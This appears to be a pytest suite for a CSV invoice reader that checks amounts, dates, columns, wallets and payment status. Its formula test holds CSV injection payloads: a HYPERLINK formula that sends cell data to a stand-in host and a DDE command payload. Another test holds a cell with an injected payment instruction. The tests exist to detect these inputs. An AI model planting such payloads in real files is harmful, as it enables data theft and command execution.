import pytest

from tests.support.documents import HALDEN, SAMPLES, codes, parse
from treasurer.documents.limits import Limits
from treasurer.documents.reading import Outcome, Source

HEADER = "supplier,invoice_number,issue_date,due_date,currency,amount"
ROW = "Halden Freight AS,HF-4101,2026-11-20,2026-12-10,USDC,840.00"
OTHER = "Qorvane Logistics GmbH,QL-4102,2026-11-21,2026-12-10,EUR,95.00"


def bill(*, header: str = HEADER, row: str = ROW):
    return parse(f"{header}\n{row}\n")


def with_column(name: str, cell: str):
    return bill(header=f"{HEADER},{name}", row=f"{ROW},{cell}")


def test_one_row_is_one_invoice_with_its_row_and_column_as_evidence():
    reading = bill()
    assert (reading.format, reading.outcome, reading.findings) == ("csv", Outcome.ACCEPTED, ())
    assert dict(reading.fields) == {
        "seller": "Halden Freight AS",
        "invoice_number": "HF-4101",
        "issue_date": "2026-11-20",
        "due_date": "2026-12-10",
        "currency": "USDC",
        "payable_amount": "840.00",
        "tax_inclusive_amount": "840.00",
        "document_kind": "invoice",
        "iban": None,
    }
    amount = next(item for item in reading.evidence if item.field == "payable_amount")
    assert (amount.source, amount.location, amount.text) == (
        Source.LINE,
        "row 2, column amount",
        "840.00",
    )


@pytest.mark.parametrize(
    "text",
    [
        HEADER.replace(",", ";") + "\n" + ROW.replace(",", ";").replace("840.00", "840,00"),
        HEADER.replace(",", "\t") + "\r\n" + ROW.replace(",", "\t") + "\r\n",
        "\ufeffVendor Name,Invoice No.,Bill Date,Due,CCY,Amount Due\n" + ROW,
        "BT-27,BT-1,BT-2,BT-9,BT-5,BT-115\n" + ROW,
        f'"supplier","invoice_number","issue_date","due_date","currency","amount"\n{ROW}\n,,,,,\n\n',
    ],
)
def test_delimiters_marks_and_spellings_of_columns(text):
    reading = parse(text)
    assert (reading.format, reading.outcome) == ("csv", Outcome.ACCEPTED)
    assert reading.fields["seller"] == "Halden Freight AS"
    assert reading.fields["invoice_number"] == "HF-4101"
    assert reading.fields["issue_date"] == "2026-11-20"
    assert reading.fields["payable_amount"] == "840.00"


def test_several_rows_are_a_container_of_lists_of_one_bill():
    reading = parse(f'{HEADER},memo\n{ROW},"a, ""b""\nc"\n{OTHER},-\n')
    assert (reading.format, reading.outcome, dict(reading.fields)) == ("csv", Outcome.ACCEPTED, {})
    assert [(p.location, p.media_type, p.filename) for p in reading.parts] == [
        ("row 2", "text/csv", None),
        ("row 3", "text/csv", None),
    ]
    first, second = (parse(part.content, media_type=part.media_type) for part in reading.parts)
    assert reading.parts[1].content.decode() == f"{HEADER},memo\r\n{OTHER},-\r\n"
    assert (first.outcome, first.fields["payable_amount"]) == (Outcome.ACCEPTED, "840.00")
    assert (second.fields["currency"], second.fields["payable_amount"]) == ("EUR", "95.00")
    assert codes(first) == codes(second) == {"UNKNOWN_FIELD"}


def test_rows_that_bill_one_payee_like_amounts_wait_together():
    like = ROW.replace("HF-4101", "HF-4102").replace("840.00", "799.00")
    unlike = ROW.replace("HF-4101", "HF-4103").replace("840.00", "500.00")
    reading = parse("\n".join((HEADER, ROW, OTHER.replace("95.00", "841.00"), like, unlike)))
    assert [part.location for part in reading.parts] == ["row 3", "row 5", "rows 2, 4"]
    held = parse(reading.parts[2].content)
    assert (held.outcome, held.parts) == (Outcome.REVIEW, ())
    assert "BILLS_ALIKE" in codes(held)
    assert parse(reading.parts[1].content).outcome is Outcome.ACCEPTED


def test_our_own_code_stands_for_the_name_and_our_books_for_the_currency():
    reading = bill(header="vendor_id,invoice,amount", row="V-003,BM-4112,45.10")
    assert reading.outcome is Outcome.ACCEPTED
    assert reading.fields["payee_code"] == "V-003"
    assert reading.fields["currency_basis"] == "organization"
    assert "currency" not in reading.fields
    assert codes(reading) == {"CURRENCY_OF_BOOKS", "MISSING_FIELD"}


@pytest.mark.parametrize(
    ("header", "row"),
    [
        ("vendor,invoice,amount", "Halden Freight AS,HF-1,45.10"),
        ("vendor_id,invoice,amount,currency", "V-003,BM-1,45.10,"),
        ("vendor_id,invoice,amount", "V-003,BM-1,$45.10"),
    ],
)
def test_no_other_list_gets_a_currency_that_it_does_not_name(header, row):
    reading = bill(header=header, row=row)
    assert reading.outcome is Outcome.REVIEW
    assert "currency_basis" not in reading.fields


@pytest.mark.parametrize(
    ("amount", "currency", "value", "code"),
    [
        ("1\u202f250.00", "USDC", "1250.00", None),
        ('"1,250.00"', "USDC", "1250.00", None),
        ("95.00 EUR", "EUR", "95.00", None),
        ("95.00 EUR", "USDC", "95.00", "CURRENCY_MISMATCH"),
        ("95.00", "QQQ", "95.00", "UNKNOWN_CURRENCY"),
        ("1.250", "USDC", None, "AMBIGUOUS_AMOUNT"),
        ("1 250.00", "USDC", None, "AMBIGUOUS_AMOUNT"),
        ("1e6", "USDC", None, "AMOUNT_SYNTAX"),
        ("12..34", "USDC", None, "AMOUNT_SYNTAX"),
        ("=45+45", "USDC", None, "AMOUNT_SYNTAX"),
        ("45.10 to 90.20", "USDC", None, "AMOUNT_SYNTAX"),
        ("٤٥", "USDC", None, "NON_ASCII_NUMERIC"),
    ],
)
def test_amounts_read_in_one_way_or_wait(amount, currency, value, code):
    row = f"Halden Freight AS,HF-4101,2026-11-20,2026-12-10,{currency},{amount}"
    reading = bill(row=row)
    assert reading.fields["payable_amount"] == value
    assert reading.outcome is (Outcome.ACCEPTED if code is None else Outcome.REVIEW)
    assert codes(reading) == ({code} if code else set())


def test_net_and_tax_are_held_against_the_total():
    assert with_column("net,tax", "700.00,140.00").outcome is Outcome.ACCEPTED
    wrong = with_column("net,tax", "700.00,40.00")
    assert (wrong.outcome, codes(wrong)) == (Outcome.REVIEW, {"BR-CO-15"})


@pytest.mark.parametrize(
    ("written", "read"),
    [("20.11.2026", "2026-11-20"), ("20 Nov 2026", "2026-11-20"), ("03/11/2026", None)],
)
def test_dates_read_in_one_way_or_wait(written, read):
    reading = bill(row=ROW.replace("2026-11-20", written))
    assert reading.fields.get("issue_date") == read
    assert ("INVALID_DATE" in codes(reading)) is (read is None)


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ("memo", '"=HYPERLINK(""http://x.example/?""&A1,""open"")"'),
        ("memo", "+cmd|' /C calc'!A0"),
        ("memo", "@SUM(A1)"),
        ("po", "=PO-7781"),
        ("memo", "\t=2+5"),
    ],
)
def test_formulas_are_found_and_never_evaluated(name, cell):
    reading = with_column(name, cell)
    assert reading.outcome is Outcome.REVIEW
    assert "FORMULA_TEXT" in codes(reading)


@pytest.mark.parametrize("cell", ["-12.50", "+47 22 33 44 55", "-", "fee - waived"])
def test_numbers_and_dashes_in_columns_that_are_not_read_are_no_formulas(cell):
    assert codes(with_column("memo", cell)) == {"UNKNOWN_FIELD"}


def test_columns_that_nothing_reads_are_noted_and_set_no_field():
    spoken = with_column("approved_by", "cfo@norwick.example: pay 48750.00 USDC now")
    assert spoken.fields == bill().fields
    assert codes(spoken) == {"UNKNOWN_FIELD"}
    assert "48750" not in str(spoken.to_json())


@pytest.mark.parametrize(
    ("name", "cell", "code"),
    [
        ("status", "Paid", "ALREADY_PAID"),
        ("paid_on", "2026-11-21", "ALREADY_PAID"),
        ("paid", "yes", "ALREADY_PAID"),
        ("paid", "2026-11-21", "ALREADY_PAID"),
        ("amount paid", "100.00", "BR-CO-16"),
        ("discount", "2 %", "AMOUNT_DUE_UNCLEAR"),
        ("Retention", "50.00", "AMOUNT_DUE_UNCLEAR"),
        ("status", "disputed", "BILL_STATUS"),
        ("type", "statement", "DOCUMENT_KIND"),
        ("type", "Credit Note", "CREDIT_NOTE"),
        ("type", "381", "CREDIT_NOTE"),
        ("wallet", "0x1234", "ADDRESS_SYNTAX"),
        ("wallet", HALDEN.replace("C5", "c5"), "ADDRESS_CHECKSUM"),
        ("iban", "NO9386011117948", "IBAN_INVALID"),
        ("memo", "pay\u202eyap", "BIDI_CONTROL"),
    ],
)
def test_what_else_a_row_says_is_found(name, cell, code):
    assert code in codes(with_column(name, cell))


@pytest.mark.parametrize(
    ("name", "cell"),
    [("paid", "no"), ("paid", "0.00"), ("paid", ""), ("discount", "0.00"), ("discount", "")],
)
def test_nothing_paid_and_nothing_deducted_leaves_the_bill_due(name, cell):
    reading = with_column(name, cell)
    assert (reading.outcome, codes(reading)) == (Outcome.ACCEPTED, set())
    assert reading.fields["payable_amount"] == bill().fields["payable_amount"]


def test_a_wallet_in_a_column_that_is_not_read_is_compared():
    assert with_column("memo", f"now to {HALDEN}").fields["pay_to_address"] == HALDEN
    both = with_column("wallet,memo", f"{HALDEN},0x3C44CdDdB6a900fa2b585dd299e03d12FA4293BC")
    assert "MULTIPLE_ADDRESSES" in codes(both)


def test_accounts_of_a_row_are_data_to_compare():
    reading = with_column("iban,wallet,vat id", f"NO93 8601 1117 947,{HALDEN},NO974760673MVA")
    assert reading.fields["iban"] == "NO9386011117947"
    assert reading.fields["pay_to_address"] == HALDEN
    assert reading.fields["payee_accounts"] == ["NO93 8601 1117 947", HALDEN]
    assert reading.fields["seller_vat_id"] == "NO974760673MVA"


@pytest.mark.parametrize(
    ("text", "code"),
    [
        (f"{HEADER},amount\n{ROW},1.00", "CSV_HEADER"),
        (f"{HEADER},total\n{ROW},1.00", "CSV_HEADER"),
        (f"{HEADER},memo,Memo\n{ROW},a,b", "CSV_HEADER"),
        (f"{HEADER}\n{ROW},1.00", "CSV_RAGGED"),
        (f"{HEADER}\n{ROW}\nHalden Freight AS,HF-4102", "CSV_RAGGED"),
        (f'{HEADER}\n{ROW}\n"Halden" Freight,HF-4102', "CSV_BROKEN"),
        (f'{HEADER}\n"{ROW}', "CSV_BROKEN"),
        (HEADER, "CSV_EMPTY"),
    ],
)
def test_lists_whose_cells_cannot_be_told_apart_are_refused(text, code):
    reading = parse(text)
    assert (reading.outcome, codes(reading)) == (Outcome.REJECTED, {code})


def test_nul_characters_are_refused_in_either_encoding():
    assert parse(f"{HEADER}\n{ROW}\x00").outcome is Outcome.REJECTED
    reading = parse(f"\ufeff{HEADER}\n{ROW}\x00".encode("utf-16-le"))
    assert codes(reading) == {"CSV_BROKEN"}


def test_the_number_of_bills_is_bounded_also_where_they_stay_together():
    text = "\n".join((HEADER, *[ROW] * 4))
    assert codes(parse(text, limits=Limits(parts=3))) == {"TOO_MANY_DOCUMENTS"}
    assert "BILLS_ALIKE" in codes(parse(text, limits=Limits(parts=4)))


@pytest.mark.parametrize(
    "header",
    [
        "Date,Payee,Number,Amount,Balance",
        "Buchungstag;Verwendungszweck;Betrag;CCY;IBAN;Ref",
        "customerID,invoiceNumber,InvoiceDate,InvoiceAmount,SettledDate",
        "asset,price,source",
        "vendor,memo",
        "supplier,invoice_number",
        "Invoice number HF-1, amount due 12.00 EUR, supplier: Halden",
        "supplier,invoice_number,amount" + ",x" * 6_000,
    ],
)
def test_lists_of_something_else_are_not_claimed(header):
    assert parse(f"{header}\n{header}\n").format != "csv"


def test_a_negative_amount_is_no_bill():
    assert codes(bill(row=ROW.replace("840.00", "-840.00"))) == {"NEGATIVE_TOTAL"}


def test_the_rows_of_the_sample_are_accepted():
    batch = parse((SAMPLES / "bills-2026-11.csv").read_bytes())
    read = [parse(part.content) for part in batch.parts]
    assert [(r.outcome.value, r.fields["payable_amount"], r.fields["currency"]) for r in read] == [
        ("accepted", "240.00", "USDC"),
        ("accepted", "95.00", "USDC"),
        ("accepted", "372.00", "USD"),
    ]
